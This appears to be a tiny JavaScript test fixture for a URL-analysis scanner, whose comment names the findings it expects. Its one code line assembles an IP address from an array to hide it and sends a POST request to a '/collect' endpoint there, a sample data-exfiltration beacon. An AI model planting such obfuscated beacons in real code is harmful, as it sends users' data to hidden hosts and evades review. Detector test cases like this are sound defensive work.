const parts = [203, 0, 113, 9];
fetch(`https://${parts.join('.')}/collect`, { method: 'POST' }); // expect: url-analyzer/raw-ip, url-analyzer/hidden-host
